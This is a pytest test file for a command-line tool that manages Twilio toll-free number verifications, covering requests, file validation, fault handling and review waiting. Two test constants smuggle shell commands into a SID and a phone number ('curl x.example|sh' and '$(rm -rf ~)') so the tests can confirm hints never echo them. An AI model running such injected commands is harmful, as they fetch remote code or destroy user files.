"""msgsvc tollfree: the exact requests each command sends (pytest-httpserver), the file's
every rule with its line, the bulk create under faults (lost answers looked up, never a
duplicate), `wait` through every status on a fake clock, and a walk against the emulator."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone
from urllib.parse import quote_plus

import pytest

from conftest import ACCOUNT_SID, SERVICE_SID, base_url_of, page, service
from corehelp import assert_request, sent
from factories import save_profile
from faults import Respond, fault_server  # noqa: F401 (fixture)

HH = "HH" + "1" * 32
PN = "PN" + "8" * 32
NUMBER = "+18005550100"
VERIFICATIONS = "/v1/Tollfree/Verifications"
INCOMING = f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers.json"
TOLL_FREE = f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers/TollFree.json"

TOML = """\
business-name = "Owl, Inc."
business-website = "https://owl.example.com"
notification-email = "tfv@owl.example.com"
use-case-category = ["ACCOUNT_NOTIFICATIONS", "CUSTOMER_CARE"]
use-case-summary = "Account notices for customers who signed up."
production-message-sample = "Owl: your order 1234 shipped."
opt-in-image-url = "https://owl.example.com/optin.png"
opt-in-type = "WEB_FORM"
message-volume = "1,000"
"""
FORM = (
    "BusinessName=Owl%2C+Inc.&BusinessWebsite=https%3A%2F%2Fowl.example.com&NotificationEmail=tfv%40owl.example.com"
    "&UseCaseCategories=ACCOUNT_NOTIFICATIONS&UseCaseCategories=CUSTOMER_CARE"
    f"&UseCaseSummary={quote_plus('Account notices for customers who signed up.')}"
    f"&ProductionMessageSample={quote_plus('Owl: your order 1234 shipped.')}"
    "&OptInImageUrls=https%3A%2F%2Fowl.example.com%2Foptin.png&OptInType=WEB_FORM&MessageVolume=1%2C000"
)


def verification(**extra) -> dict:
    """A record as the API returns it (the keys that matter here; the rest as absent)."""
    record = {"sid": HH, "account_sid": ACCOUNT_SID, "tollfree_phone_number_sid": PN, "tollfree_phone_number": NUMBER,
              "business_name": "Owl, Inc.", "status": "PENDING_REVIEW", "date_created": "2026-12-01T10:00:00Z",
              "edit_allowed": None, "edit_expiration": None, "rejection_reasons": None, "rejection_reason": None,
              "error_code": None, "url": f"https://messaging.twilio.com{VERIFICATIONS}/{HH}"}
    record.update(extra)
    return record


def incoming(sid: str = PN, number: str = NUMBER) -> dict:
    return {"sid": sid, "phone_number": number, "friendly_name": number, "capabilities": {"sms": True}}


def v2010(key: str, items: list) -> dict:
    return {key: items, "next_page_uri": None, "page": 0, "page_size": 50, "start": 0, "end": len(items) - 1,
            "uri": "/", "first_page_uri": "/", "previous_page_uri": None}


@pytest.fixture
def verification_file(tmp_path):
    path = tmp_path / "verification.toml"
    path.write_text(TOML)
    return path


# --- get, list, status: the exact requests ---------------------------------------------------


def test_get_by_sid_fetches_the_record(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(verification())
    result = msgsvc("tollfree", "get", HH, "--fields", "sid,status,tollfree_phone_number")
    assert (result.code, result.out, result.err) == (0, f"sid\t{HH}\nstatus\tPENDING_REVIEW\ntollfree_phone_number\t{NUMBER}\n", "")
    assert_request(sent(httpserver)[0], "GET", f"{VERIFICATIONS}/{HH}")


def test_get_by_number_finds_the_newest_record_of_the_number(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(INCOMING, method="GET").respond_with_json(v2010("incoming_phone_numbers", [incoming()]))
    old = verification(sid="HH" + "0" * 32, status="TWILIO_REJECTED", date_created="2026-11-01T10:00:00Z")
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", [verification(), old]))
    result = msgsvc("tollfree", "get", NUMBER, "--json", "--jq", ".sid")
    assert (result.code, result.out) == (0, f'{HH}\n'), result.err
    first, second = sent(httpserver)
    assert_request(first, "GET", INCOMING, query="PhoneNumber=%2B18005550100&PageSize=1000")
    assert_request(second, "GET", VERIFICATIONS, query=f"TollfreePhoneNumberSid={PN}&PageSize=1000")


def test_get_of_a_number_without_a_record_is_exit_3_saying_what_to_do(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(INCOMING, method="GET").respond_with_json(v2010("incoming_phone_numbers", [incoming()]))
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", []))
    result = msgsvc("tollfree", "get", NUMBER)
    assert (result.code, result.out) == (3, "")
    assert result.err == (f"msgsvc: {NUMBER} has no toll-free verification: it cannot send to the US and Canada (30032)\n"
                          f"hint: submit one: msgsvc tollfree create {NUMBER} --from-file verification.toml\n")


@pytest.mark.parametrize(("ref", "message"), [
    ("+15005550100", "msgsvc: +15005550100 is not a toll-free number (+1 followed by 800, 833, 844, 855, 866, 877, 888)\n"
                     "hint: only US and Canadian toll-free numbers are verified this way\n"),
    ("owl", "msgsvc: 'owl' is not an HH... verification SID, a toll-free number in E.164 form (+18005550100) "
            "or its PN... SID\n"),
])
def test_get_refuses_what_is_no_record_and_no_toll_free_number_before_sending(msgsvc, profile, httpserver, ref, message):
    result = msgsvc("tollfree", "get", ref)
    assert (result.code, result.err) == (2, message)
    assert sent(httpserver) == []


def test_list_sends_its_filters(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", [verification()]))
    result = msgsvc("tollfree", "list", "--status", "twilio_rejected", "--limit", "5")
    assert (result.code, result.out) == (0, f"{HH}\t{NUMBER}\tPENDING_REVIEW\tOwl, Inc.\t2026-12-01T10:00:00Z\n"), result.err
    assert_request(sent(httpserver)[0], "GET", VERIFICATIONS, query="Status=TWILIO_REJECTED&PageSize=5")
    wrong = msgsvc("tollfree", "list", "--status", "APPROVED")
    assert (wrong.code, wrong.err) == (2, "Usage: msgsvc tollfree list [OPTIONS]\n"
                                          "msgsvc: Invalid value for '--status': 'APPROVED' is not one of PENDING_REVIEW, "
                                          "IN_REVIEW, TWILIO_APPROVED, TWILIO_REJECTED\nhint: see 'msgsvc tollfree list --help'\n")


def test_status_shows_every_toll_free_number_its_service_and_what_to_do(msgsvc, profile, httpserver):
    numbers = [incoming(), incoming("PN" + "9" * 32, "+18885550101"), incoming("PN" + "7" * 32, "+18445550102")]
    httpserver.expect_oneshot_request("/v1/Services", method="GET").respond_with_json(page("services", [service()]))
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}/PhoneNumbers", method="GET").respond_with_json(
        page("phone_numbers", [{"sid": PN, "phone_number": NUMBER}]))
    httpserver.expect_oneshot_request(TOLL_FREE, method="GET").respond_with_json(v2010("incoming_phone_numbers", numbers))
    later = (datetime.now(timezone.utc) + timedelta(days=3)).replace(microsecond=0)
    records = [verification(status="TWILIO_APPROVED"),
               verification(sid="HH" + "2" * 32, tollfree_phone_number_sid="PN" + "9" * 32, status="TWILIO_REJECTED",
                            edit_allowed=True, edit_expiration=later.strftime("%Y-%m-%dT%H:%M:%SZ"))]
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", records))
    result = msgsvc("tollfree", "status")
    assert result.code == 0, result.err
    assert result.out == (f"{NUMBER}\tAlerts\tTWILIO_APPROVED\ttrue\tnone\n"
                          f"+18885550101\t\tTWILIO_REJECTED\tfalse\tedit by {later.strftime('%Y-%m-%d %H:%M')} UTC\n"
                          "+18445550102\t\tnone\tfalse\tsubmit\n")
    requests = sent(httpserver)
    assert [(r.path, r.query_string.decode()) for r in requests] == [
        ("/v1/Services", "PageSize=1000"), (f"/v1/Services/{SERVICE_SID}/PhoneNumbers", "PageSize=1000"),
        (TOLL_FREE, "PageSize=1000"), (VERIFICATIONS, "PageSize=1000")]


def test_services_get_on_a_terminal_says_how_many_toll_free_numbers_are_verified(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}/PhoneNumbers", method="GET").respond_with_json(
        page("phone_numbers", [{"sid": PN, "phone_number": NUMBER}, {"sid": "PN" + "9" * 32, "phone_number": "+18885550101"},
                               {"sid": "PN" + "5" * 32, "phone_number": "+15550000001"}]))
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(
        page("verifications", [verification(status="TWILIO_APPROVED")]))
    result = msgsvc("services", "get", SERVICE_SID, tty=True)
    assert result.code == 0
    assert result.err == f"Toll-free: 2 toll-free numbers, 1 verified; 1 cannot send until verified; see msgsvc tollfree status {SERVICE_SID}\n"
    assert [(r.path, r.query_string.decode()) for r in sent(httpserver)][1:] == [
        (f"/v1/Services/{SERVICE_SID}/PhoneNumbers", "PageSize=1000"), (VERIFICATIONS, "PageSize=1000")]


# --- create: the file's rules, the form, the bulk path ---------------------------------------


def test_every_broken_rule_of_the_file_at_once_with_its_line(msgsvc, profile, httpserver, tmp_path):
    path = tmp_path / "bad.toml"
    path.write_text(
        'business-name = "Owl, Inc."\n'
        'business-website = "http://owl.example.com"\n'
        'notification-email = "owl.example.com"\n'
        'use-case-category = ["ALERTS"]\n'
        '# the summary is missing\n'
        'production-message-sample = "Owl: track it at https://bit.ly/x1"\n'
        'opt-in-image-url = ["https://owl.example.com/optin.png"]\n'
        'opt-in-type = "WEB_FORM"\n'
        'message-volume = "1000"\n'
        'business-country = "USA"\n'
        'business-contact-phone = "555-0100"\n'
        'age-gated-content = "no"\n'
        'busines-city = "Anytown"\n'
    )
    result = msgsvc("tollfree", "create", NUMBER, "--from-file", str(path))
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"msgsvc: 10 problems in {path}:\n"
        f"  {path}: use-case-summary is required\n"
        f"  {path}:2: business-website must be an absolute https:// URL; 'http://owl.example.com' is not\n"
        f"  {path}:3: notification-email must be an e-mail address; 'owl.example.com' is not\n"
        f"  {path}:4: use-case-category must be one of TWO_FACTOR_AUTHENTICATION, ACCOUNT_NOTIFICATIONS, CUSTOMER_CARE, "
        "CHARITY_NONPROFIT, DELIVERY_NOTIFICATIONS, FRAUD_ALERT_MESSAGING, EVENTS, HIGHER_EDUCATION, K12, MARKETING, "
        "POLLING_AND_VOTING_NON_POLITICAL, POLITICAL_ELECTION_CAMPAIGNS, PUBLIC_SERVICE_ANNOUNCEMENT, SECURITY_ALERT; 'ALERTS' is not\n"
        f"  {path}:6: production-message-sample links to the public URL shortener bit.ly, which reviewers reject; "
        "use a link on the business's own domain\n"
        f"  {path}:9: message-volume must be one of 10, 100, 1,000, 10,000, 100,000, 250,000, 500,000, 750,000, 1,000,000, "
        "5,000,000, 10,000,000+; '1000' is not\n"
        f"  {path}:10: business-country must be an ISO 3166-1 alpha-2 country code such as US or CA; 'USA' is not\n"
        f"  {path}:11: business-contact-phone must be an E.164 phone number such as +15017122661; '555-0100' is not\n"
        f"  {path}:12: age-gated-content must be true or false\n"
        f"  {path}:13: unknown key 'busines-city' (did you mean 'business-city' or 'business-type' or 'business-country'?)\n"
        "hint: nothing was sent; fix the file and run again\n"
    )
    assert sent(httpserver) == []


def test_create_sends_the_file_for_the_number(msgsvc, profile, httpserver, verification_file):
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", []))
    httpserver.expect_oneshot_request(INCOMING, method="GET").respond_with_json(v2010("incoming_phone_numbers", [incoming()]))
    httpserver.expect_oneshot_request(VERIFICATIONS, method="POST").respond_with_json(verification(), status=201)
    result = msgsvc("tollfree", "create", NUMBER, "--from-file", str(verification_file))
    assert (result.code, result.out) == (0, f"{NUMBER}\t{HH}\tcreated\t\t\n"), result.err
    assert result.err == f"Follow the review with: msgsvc tollfree wait {NUMBER}\n1 created\n"
    listing, lookup, post = sent(httpserver)
    assert_request(listing, "GET", VERIFICATIONS, query="PageSize=1000")
    assert_request(lookup, "GET", INCOMING, query="PhoneNumber=%2B18005550100&PageSize=1000")
    assert_request(post, "POST", VERIFICATIONS, form=f"TollfreePhoneNumberSid={PN}&{FORM}")


def test_create_dry_run_sends_nothing(msgsvc, profile, httpserver, verification_file):
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", []))
    httpserver.expect_oneshot_request(INCOMING, method="GET").respond_with_json(v2010("incoming_phone_numbers", [incoming()]))
    result = msgsvc("tollfree", "create", NUMBER, "--from-file", str(verification_file), "--dry-run")
    assert (result.code, result.out) == (0, f"{NUMBER}\t\twould create\t\tPOST {httpserver.url_for('/').rstrip('/')}"
                                            f"{VERIFICATIONS} TollfreePhoneNumberSid={PN} BusinessName=Owl, Inc. "
                                            "BusinessWebsite=https://owl.example.com NotificationEmail=tfv@owl.example.com "
                                            "UseCaseCategories=ACCOUNT_NOTIFICATIONS UseCaseCategories=CUSTOMER_CARE "
                                            "UseCaseSummary=Account notices for customers who signed up. "
                                            "ProductionMessageSample=Owl: your order 1234 shipped. "
                                            "OptInImageUrls=https://owl.example.com/optin.png OptInType=WEB_FORM "
                                            "MessageVolume=1,000\n"), result.err
    assert result.err == "Dry run: 1 request not sent; 1 would create\n"
    assert [r.method for r in sent(httpserver)] == ["GET", "GET"]


NUMBERS = [("PN" + c * 32, f"+1800555010{i}") for i, c in enumerate("abcd")]


def script_numbers(fault_server) -> None:
    fault_server.script("GET", VERIFICATIONS, Respond(200, json=page("verifications", [
        verification(sid="HH" + "d" * 32, tollfree_phone_number_sid=NUMBERS[3][0], tollfree_phone_number=NUMBERS[3][1])])))
    for sid, number in NUMBERS:
        fault_server.script("GET", INCOMING, Respond(200, json=v2010("incoming_phone_numbers", [incoming(sid, number)])))


def test_bulk_create_under_faults_never_files_a_duplicate(msgsvc, fault_server, verification_file):
    """Four numbers: one answered after a 429, one whose answer a gateway lost (a record is
    there: created), one refused (400: failed, and no record there), one with a record
    already (exists: never sent)."""
    save_profile(fault_server.url, max_retries=2)
    script_numbers(fault_server)
    fault_server.script("POST", VERIFICATIONS,
                        Respond(429, json={"code": 20429, "message": "Too Many Requests", "status": 429}, headers={"Retry-After": "0"}),
                        Respond(201, json=verification(sid="HH" + "a" * 32)),
                        Respond(502, body="<html>Bad Gateway</html>", headers={"Content-Type": "text/html"}),
                        Respond(400, json={"code": 20001, "message": "BusinessName is invalid", "status": 400}))
    lost = verification(sid="HH" + "b" * 32, tollfree_phone_number_sid=NUMBERS[1][0])
    fault_server.script("GET", VERIFICATIONS, Respond(200, json=page("verifications", [lost])),
                        Respond(200, json=page("verifications", [])))
    result = msgsvc("tollfree", "create", *(n for _, n in NUMBERS), "--from-file", str(verification_file),
                    "--concurrency", "1")
    assert result.code == 1
    rows = [line.split("\t") for line in result.out.splitlines()]
    assert [(r[0], r[1], r[2]) for r in rows] == [
        (NUMBERS[0][1], "HH" + "a" * 32, "created"), (NUMBERS[1][1], "HH" + "b" * 32, "created"),
        (NUMBERS[2][1], "", "failed"), (NUMBERS[3][1], "HH" + "d" * 32, "exists")]
    assert rows[1][4] == "PENDING_REVIEW (its answer was lost; found by its number)"
    assert rows[2][3:] == ["20001", "BusinessName is invalid"]
    assert result.err.endswith("2 created, 1 failed, 1 exists\n")
    posts = fault_server.seen("POST", VERIFICATIONS)
    assert [dict(p.form)["TollfreePhoneNumberSid"] for p in posts] == [NUMBERS[0][0], NUMBERS[0][0], NUMBERS[1][0], NUMBERS[2][0]]
    lookups = [r.query for r in fault_server.seen("GET", VERIFICATIONS)]
    assert lookups == [[("PageSize", "1000")], [("TollfreePhoneNumberSid", NUMBERS[1][0]), ("PageSize", "1000")],
                       [("TollfreePhoneNumberSid", NUMBERS[2][0]), ("PageSize", "1000")]]
    assert fault_server.unused() == {}


# --- update and delete --------------------------------------------------------------------


def test_update_outside_the_edit_window_says_why_and_sends_nothing(msgsvc, profile, httpserver, verification_file):
    closed = verification(status="TWILIO_REJECTED", edit_allowed=True, edit_expiration="2026-01-01T00:00:00Z")
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(closed)
    result = msgsvc("tollfree", "update", HH, "--from-file", str(verification_file), "--edit-reason", "fixed")
    assert (result.code, result.out) == (1, "")
    assert result.err == (f"msgsvc: verification {HH} of {NUMBER} cannot be edited: its edit window closed at 2026-01-01 00:00 UTC\n"
                          f"hint: delete it and submit again: msgsvc tollfree delete {HH} && msgsvc tollfree create {NUMBER} --from-file FILE\n")
    assert [r.method for r in sent(httpserver)] == ["GET"]


def test_update_resubmits_with_the_edit_reason(msgsvc, profile, httpserver, verification_file):
    later = (datetime.now(timezone.utc) + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(
        verification(status="TWILIO_REJECTED", edit_allowed=True, edit_expiration=later))
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="POST").respond_with_json(verification(), status=202)
    result = msgsvc("tollfree", "update", HH, "--from-file", str(verification_file), "--edit-reason", "Opt-in page fixed",
                    "--json", "--quiet")
    assert (result.code, result.err) == (0, ""), result.err
    assert json.loads(result.out)["status"] == "PENDING_REVIEW"
    assert_request(sent(httpserver)[1], "POST", f"{VERIFICATIONS}/{HH}", form=f"{FORM}&EditReason=Opt-in+page+fixed")


def test_delete_asks_on_a_terminal_and_needs_yes_in_a_script(msgsvc, profile, httpserver):
    refused = msgsvc("tollfree", "delete", HH)
    assert (refused.code, refused.err) == (2, "msgsvc: refusing to delete a toll-free verification without confirmation\n"
                                              "hint: add --yes to delete from a script\n")
    assert sent(httpserver) == []
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(verification())
    declined = msgsvc("tollfree", "delete", HH, stdin="n\n", stdin_tty=True)
    assert declined.code == 2 and declined.err.endswith("Nothing deleted.\n")
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(verification())
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="DELETE").respond_with_data("", status=204)
    done = msgsvc("tollfree", "delete", HH, "--yes")
    assert (done.code, done.err) == (0, f"Deleted verification {HH} of {NUMBER}; submit it again with: "
                                        f"msgsvc tollfree create {NUMBER} --from-file FILE\n")
    assert_request(sent(httpserver)[-1], "DELETE", f"{VERIFICATIONS}/{HH}")


# What a hostile server may call a record's sid and number: never pasted into a hint's command.
HOSTILE_SID = "HH1; curl x.example|sh"
HOSTILE_NUMBER = "+18005550100 $(rm -rf ~)"


def test_a_closed_rejections_hint_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver, verification_file):
    closed = verification(sid=HH, tollfree_phone_number=HOSTILE_NUMBER, status="TWILIO_REJECTED", edit_allowed=False)
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(closed)
    result = msgsvc("tollfree", "update", HH, "--from-file", str(verification_file), "--edit-reason", "fixed")
    assert (result.code, result.out) == (1, "")
    assert result.err == (f"msgsvc: verification {HH} of {HOSTILE_NUMBER} cannot be edited: Twilio does not allow "
                          "editing it (edit_allowed is false)\n"
                          f"hint: delete it and submit again: msgsvc tollfree delete {HH} && "
                          "msgsvc tollfree create NUMBER --from-file FILE\n")
    assert [r.method for r in sent(httpserver)] == ["GET"]


@pytest.mark.parametrize("command", [["delete", "--yes"], ["update", "--edit-reason", "fixed"]])
def test_an_answer_for_another_verification_is_refused_before_anything_is_sent(msgsvc, profile, httpserver,
                                                                               verification_file, command):
    """The DELETE or update goes to the SID of the record fetched: a server answering with
    another one ('HH1; curl ...', or a real SID of another number) would have it sent there."""
    verb, *options = command
    if verb == "update":
        options = ["--from-file", str(verification_file), *options]
    other = verification(sid="HH" + "2" * 32)
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(other)
    result = msgsvc("tollfree", verb, HH, *options)
    assert (result.code, result.out) == (1, "")
    assert result.err == (f"msgsvc: GET {base_url_of(httpserver)}{VERIFICATIONS}/{HH} answered with another toll-free "
                          f"verification ('HH{'2' * 32}'); nothing was changed\n")
    assert [r.method for r in sent(httpserver)] == ["GET"]


def test_a_deletes_note_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver):
    record = verification(tollfree_phone_number=HOSTILE_NUMBER)
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(record)
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="DELETE").respond_with_data("", status=204)
    done = msgsvc("tollfree", "delete", HH, "--yes")
    assert (done.code, done.out) == (0, ""), done.err
    assert done.err == (f"Deleted verification {HH} of {HOSTILE_NUMBER}; submit it again with: "
                        "msgsvc tollfree create NUMBER --from-file FILE\n")


def test_get_on_a_terminal_says_to_wait_for_the_verification_as_typed(msgsvc, profile, httpserver):
    record = verification(tollfree_phone_number=HOSTILE_NUMBER)
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(record)
    shown = msgsvc("tollfree", "get", HH, tty=True)
    assert shown.code == 0 and f"  {HOSTILE_NUMBER}\n" in shown.out
    assert shown.err == f"{HOSTILE_NUMBER} is PENDING_REVIEW: in review. Follow it with: msgsvc tollfree wait {HH}\n"


def test_a_number_named_by_its_sid_without_a_record_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers/{PN}.json",
                                      method="GET").respond_with_json(incoming(number=HOSTILE_NUMBER))
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", []))
    result = msgsvc("tollfree", "get", PN)
    assert (result.code, result.out) == (3, "")
    assert result.err == (f"msgsvc: {HOSTILE_NUMBER} has no toll-free verification: it cannot send to the US and Canada (30032)\n"
                          "hint: submit one: msgsvc tollfree create NUMBER --from-file verification.toml\n")


# --- wait -------------------------------------------------------------------------------------


def test_the_wait_loop_goes_through_every_status_on_a_fake_clock():
    from msgsvc.api.a2p import StillPending, wait_for_review
    from msgsvc.api.tollfree import FINAL_STATES

    now = [0.0]
    answers = iter([{"status": "PENDING_REVIEW"}, {"status": "IN_REVIEW"}, {"status": "TWILIO_REJECTED"}])
    seen = []
    record = wait_for_review(lambda: next(answers), timeout=100, interval=10, final=FINAL_STATES, status="status",
                             on_poll=lambda r, elapsed: seen.append((r["status"], elapsed)),
                             sleep=lambda s: now.__setitem__(0, now[0] + s), clock=lambda: now[0])
    assert record == {"status": "TWILIO_REJECTED"}
    assert seen == [("PENDING_REVIEW", 0.0), ("IN_REVIEW", 10.0), ("TWILIO_REJECTED", 20.0)]
    now[0] = 0.0
    with pytest.raises(StillPending):
        wait_for_review(lambda: {"status": "IN_REVIEW"}, timeout=25, interval=10, final=FINAL_STATES, status="status",
                        sleep=lambda s: now.__setitem__(0, now[0] + s), clock=lambda: now[0])
    assert now[0] == 25.0  # the last sleep cut to what was left


# --- against the emulator ----------------------------------------------------------------------


@pytest.fixture
def emu(emulator, monkeypatch):
    monkeypatch.setenv("TWILIO_ACCOUNT_SID", emulator.account_sid)
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", emulator.auth_token)
    monkeypatch.setenv("MSGSVC_BASE_URL", emulator.base_url)
    emulator.store.tollfree_review = 0.0  # settled at the first look
    return emulator


def test_walk_status_create_reject_fix_wait_approve(msgsvc, emu, tmp_path, verification_file):
    status = msgsvc("tollfree", "status")
    assert status.out == "".join(f"{n}\t\tnone\tfalse\tsubmit\n" for n in ("+18005550100", "+18885550101", "+18445550102"))
    rejected_file = tmp_path / "rejected.toml"
    rejected_file.write_text(TOML.replace("Owl, Inc.", "Owl REJECT, Inc."))
    created = msgsvc("tollfree", "create", "+18005550100", "--from-file", str(rejected_file))
    assert created.code == 0, created.err
    hh = next(iter(emu.store.data["tollfree_verifications"]))
    waited = msgsvc("tollfree", "wait", "+18005550100", "--interval", "0.1s")
    record = emu.store.data["tollfree_verifications"][hh]
    deadline = datetime.fromtimestamp(record["edit_expiration"], timezone.utc)
    assert waited.code == 1
    assert f"{hh}\t+18005550100\tTWILIO_REJECTED\t" in waited.out
    assert waited.err.startswith(
        "msgsvc: 1 of 1 verification rejected\n"
        f"  +18005550100 ({hh}): 30511: Toll Free verification rejection - Verbal consent script must be provided; "
        f"next: edit by {deadline.strftime('%Y-%m-%d %H:%M')} UTC (")
    assert "warning" not in waited.err  # seven days left
    shown = msgsvc("tollfree", "get", "+18005550100", tty=True)
    assert shown.err == ("+18005550100 was rejected:\n"
                         "  30511: Toll Free verification rejection - Verbal consent script must be provided\n"
                         f"Next: edit by {deadline.strftime('%Y-%m-%d %H:%M')} UTC\n")
    listed = msgsvc("tollfree", "list", "--number", "+18005550100", "--status", "TWILIO_REJECTED", "--json")
    assert [r["sid"] for r in json.loads(listed.out)] == [hh]
    record["edit_expiration"] = datetime.now(timezone.utc).timestamp() + 10 * 3600
    soon = msgsvc("tollfree", "wait", hh, "--interval", "0.1s")
    assert soon.code == 1 and "msgsvc: warning: fewer than 48 hours left to edit verification " in soon.err
    fixed = msgsvc("tollfree", "update", "+18005550100", "--from-file", str(verification_file), "--edit-reason", "Name fixed")
    assert fixed.code == 0, fixed.err
    assert fixed.err.endswith("Follow it with: msgsvc tollfree wait +18005550100\n")  # as typed, not the HH SID
    approved = msgsvc("tollfree", "wait", "+18005550100", "--interval", "0.1s", "--json")
    assert approved.code == 0, approved.err
    assert [r["status"] for r in json.loads(approved.out)] == ["TWILIO_APPROVED"]
    status = msgsvc("tollfree", "status", "--json")
    assert [(r["phone_number"], r["status"], r["can_send"]) for r in json.loads(status.out)] == [
        ("+18005550100", "TWILIO_APPROVED", True), ("+18885550101", "none", False), ("+18445550102", "none", False)]
    mg = json.loads(msgsvc("services", "create", "--friendly-name", "Alerts", "--json").out)["sid"]
    assert msgsvc("numbers", "attach", "Alerts", "+18005550100", "+18885550101").code == 0
    named = msgsvc("tollfree", "status", "Alerts")
    assert (named.code, named.out) == (0, "+18005550100\tAlerts\tTWILIO_APPROVED\ttrue\tnone\n"
                                          "+18885550101\tAlerts\tnone\tfalse\tsubmit\n")
    line = msgsvc("services", "get", "Alerts", tty=True)
    assert line.err == "Toll-free: 2 toll-free numbers, 1 verified; 1 cannot send until verified; see msgsvc tollfree status Alerts\n"  # as typed
    assert mg.startswith("MG")


def test_wait_times_out_with_exit_5(msgsvc, emu, verification_file):
    emu.store.tollfree_review = 3600
    assert msgsvc("tollfree", "create", "+18885550101", "--from-file", str(verification_file)).code == 0
    hh = next(iter(emu.store.data["tollfree_verifications"]))
    result = msgsvc("tollfree", "wait", "+18885550101", "--timeout", "0.3s", "--interval", "0.1s")
    assert (result.code, result.out) == (5, "")
    assert result.err == (f"msgsvc: verification {hh} of +18885550101 is still PENDING_REVIEW after 0.3s\n"
                          "hint: wait longer: msgsvc tollfree wait +18885550101 --timeout 24h\n")


def test_a_final_rejection_leaves_delete_and_create(msgsvc, emu, tmp_path):
    path = tmp_path / "forbidden.toml"
    path.write_text(TOML.replace("your order", "FORBIDDEN coins, your order"))
    assert msgsvc("tollfree", "create", "+18445550102", "--from-file", str(path)).code == 0
    hh = next(iter(emu.store.data["tollfree_verifications"]))
    waited = msgsvc("tollfree", "wait", hh, "--interval", "0.1s")
    assert waited.code == 1 and "next: delete and submit again\n" in waited.err
    refused = msgsvc("tollfree", "update", hh, "--from-file", str(path), "--edit-reason", "please")
    assert refused.err == (f"msgsvc: verification {hh} of +18445550102 cannot be edited: Twilio does not allow editing it "
                           "(edit_allowed is false)\n"
                           f"hint: delete it and submit again: msgsvc tollfree delete {hh} && msgsvc tollfree create "
                           "+18445550102 --from-file FILE\n")
    assert msgsvc("tollfree", "delete", "+18445550102", "--yes").code == 0
    assert emu.store.data["tollfree_verifications"] == {}


def test_completion_offers_the_verifications_and_numbers_seen(msgsvc, profile, httpserver):
    from msgsvc.cli.complete import complete_tollfree

    other = verification(sid="HH" + "2" * 32, tollfree_phone_number="+18885550101", status="TWILIO_APPROVED")
    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", [verification(), other]))
    assert msgsvc("tollfree", "list").code == 0
    assert complete_tollfree(None, "HH1") == [(HH, f"{NUMBER} PENDING_REVIEW")]
    assert complete_tollfree(None, "+1888") == [("+18885550101", "HH" + "2" * 32 + " TWILIO_APPROVED")]
    assert [value for value, _ in complete_tollfree(None, "")] == [HH, NUMBER, "HH" + "2" * 32, "+18885550101"]
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(verification())
    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="DELETE").respond_with_data("", status=204)
    assert msgsvc("tollfree", "delete", HH, "--yes").code == 0
    assert [value for value, _ in complete_tollfree(None, "")] == ["HH" + "2" * 32, "+18885550101"]


def test_ctrl_c_while_status_reads_the_services_numbers_says_interrupted(msgsvc, profile, httpserver, monkeypatch):
    """The reads run on the job pool; a Ctrl-C there is an interruption (exit 130), not an
    'unexpected error'."""
    import os
    import signal

    from corehelp import ctrl_c_taken

    from msgsvc.api import client

    httpserver.expect_oneshot_request("/v1/Services", method="GET").respond_with_json(page("services", [service()]))
    taken = ctrl_c_taken(monkeypatch)

    def pressed_while_reading(self, kind, service_sid):
        os.kill(os.getpid(), signal.SIGINT)
        taken()  # the main thread took it while this read was in flight
        return []

    monkeypatch.setattr(client.Client, "list_senders", pressed_while_reading)
    result = msgsvc("tollfree", "status")
    assert (result.code, result.out) == (130, "")
    assert result.err == "\nmsgsvc: interrupted\n"
